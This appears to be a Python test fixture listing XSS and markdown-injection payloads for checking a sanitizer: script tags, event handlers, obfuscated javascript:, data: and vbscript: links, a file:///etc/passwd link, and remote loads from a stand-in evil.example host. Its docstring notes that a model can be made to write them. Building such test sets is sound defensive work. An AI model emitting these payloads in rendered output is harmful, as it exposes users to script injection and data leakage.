"""What an attacker would write, or have a model write. Every one that works calls `alert` or asks another host."""

from __future__ import annotations

HTML = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '<img src="https://evil.example/3.png">',
    "<svg onload=alert(4)><script>alert(5)</script></svg>",
    '<iframe src="https://evil.example/6" srcdoc="<script>alert(7)</script>"></iframe>',
    '<a href="javascript:alert(8)" onclick="alert(9)" autofocus onfocus="alert(10)">html link</a>',
    '<style>@import "https://evil.example/11.css";</style>',
    '<link rel="stylesheet" href="https://evil.example/12.css">',
    '<form action="https://evil.example/13"><button autofocus>press</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/14">',
    '<base href="https://evil.example/15/">',
    "<details open ontoggle=alert(16)>open</details>",
)

LINKS = (
    "[script link](javascript:alert(20))",
    "[mixed case](JaVaScRiPt:alert(21))",
    "[reference](&#106;&#97;vascript&colon;alert(22))",
    "[tab](java&Tab;script:alert(23))",
    "[newline](java&NewLine;script:alert(24))",
    "[control](&#1;javascript:alert(25))",
    "[data link](data:text/html,<script>alert(26)</script>)",
    "[base64](data:text/html;base64,PHNjcmlwdD5hbGVydCgyNyk8L3NjcmlwdD4=)",
    "[vb](vbscript:msgbox(28))",
    "[file](file:///etc/passwd)",
    "[blob](blob:https://evil.example/29)",
    "[relative](/sessions)",
    "<javascript:alert(30)>",
    "[by reference][bad]",
    '[title](https://example.org "\\" onmouseover=alert(31) x=\\"")',
)

IMAGES = (
    "![remote](https://evil.example/40.png)",
    "![script image](javascript:alert(41))",
    "![data image](data:image/svg+xml,<svg onload=alert(42)>)",
    "[![nested](https://evil.example/43.png)](javascript:alert(44))",
)

CODE = '```html" onmouseover="alert(50)\n<script>alert(51)</script>\n```'

ATTACKS = "\n\n".join((*HTML, *LINKS, *IMAGES, CODE, "[bad]: javascript:alert(52)", "The end of the attack."))
